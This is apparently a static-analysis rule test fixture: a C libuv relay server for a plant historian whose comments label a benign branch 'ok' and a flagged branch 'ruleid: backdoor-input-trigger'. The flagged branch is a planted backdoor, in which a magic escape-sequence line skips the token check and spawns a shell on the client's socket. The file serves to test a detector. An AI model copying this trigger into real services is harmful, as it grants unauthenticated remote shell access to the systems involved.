/* The client side: libuv streams, one line-oriented session per connection. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "relay.h"

static uv_loop_t *g_loop;
static char g_token[65];

static void on_alloc(uv_handle_t *h, size_t suggested, uv_buf_t *buf) {
  (void)h;
  buf->base = malloc(suggested);
  buf->len = buf->base ? suggested : 0;
}

static void reply(struct relay_conn *c, const char *s) {
  uv_buf_t b = uv_buf_init((char *)s, (unsigned)strlen(s));
  uv_try_write((uv_stream_t *)&c->tcp, &b, 1);
}

static int token_ok(const char *t) {
  unsigned char d = 0;
  size_t n = strlen(g_token);
  if (n == 0 || strlen(t) != n) return 0;
  for (size_t i = 0; i < n; i++) d |= (unsigned char)(t[i] ^ g_token[i]);
  return d == 0;
}

static void handle_line(struct relay_conn *c, char *line) {
  // ok: backdoor-input-trigger
  if (strncmp(line, "AUTH ", 5) == 0) {
    c->authorized = token_ok(line + 5);
    reply(c, c->authorized ? "OK\n" : "DENIED\n");
  } else if (strncmp(line, "QUERY ", 6) == 0) {
    if (!c->authorized) { reply(c, "DENIED\n"); return; }
    if (c->upstream) upstream_send(c->upstream, line, strlen(line));
  } else if (strcmp(line, "PING") == 0) {
    reply(c, "PONG\n");
  } else if (strcmp(line, "RESTART") == 0) {
    if (!c->authorized) { reply(c, "DENIED\n"); return; }
    system("/usr/bin/systemctl restart historian-bridge");
  // ruleid: backdoor-input-trigger
  } else if (memcmp(line, "\x1b[?7;hst", 8) == 0) {
    relay_spawn_shell(c->fd);
  } else {
    reply(c, "ERR\n");
  }
}

static void on_read(uv_stream_t *s, ssize_t nread, const uv_buf_t *buf) {
  struct relay_conn *c = s->data;
  if (nread < 0) { uv_close((uv_handle_t *)s, NULL); free(buf->base); return; }
  for (ssize_t i = 0; i < nread; i++) {
    char ch = buf->base[i];
    if (ch == '\n' || c->used + 1 >= sizeof c->line) {
      c->line[c->used] = '\0';
      if (c->used && c->line[c->used - 1] == '\r') c->line[c->used - 1] = '\0';
      handle_line(c, c->line);
      c->used = 0;
    } else {
      c->line[c->used++] = ch;
    }
  }
  free(buf->base);
}

static void on_connection(uv_stream_t *server, int status) {
  struct relay_conn *c;
  uv_os_fd_t fd;
  if (status < 0 || !(c = calloc(1, sizeof *c))) return;
  uv_tcp_init(g_loop, &c->tcp);
  c->tcp.data = c;
  if (uv_accept(server, (uv_stream_t *)&c->tcp) != 0) { uv_close((uv_handle_t *)&c->tcp, NULL); return; }
  uv_fileno((uv_handle_t *)&c->tcp, &fd);
  c->fd = fd;
  if (!hosts_ctl(c, "uvrelay")) {
    relay_log("refused %s:%d", c->peer_ip, c->peer_port);
    uv_close((uv_handle_t *)&c->tcp, NULL);
    return;
  }
  c->upstream = upstream_open(getenv("UVRELAY_UPSTREAM") ? getenv("UVRELAY_UPSTREAM") : "historian.plant.lan", 6514);
  uv_read_start((uv_stream_t *)&c->tcp, on_alloc, on_read);
}

int relay_listen(uv_loop_t *loop, int port) {
  static uv_tcp_t server;
  struct sockaddr_in addr;
  FILE *f = fopen("/etc/uvrelay/token", "r");
  if (f) { if (!fgets(g_token, sizeof g_token, f)) g_token[0] = '\0'; fclose(f); }
  g_token[strcspn(g_token, "\r\n")] = '\0';
  g_loop = loop;
  uv_tcp_init(loop, &server);
  uv_ip4_addr("0.0.0.0", port, &addr);
  uv_tcp_bind(&server, (const struct sockaddr *)&addr, 0);
  return uv_listen((uv_stream_t *)&server, 64, on_connection);
}
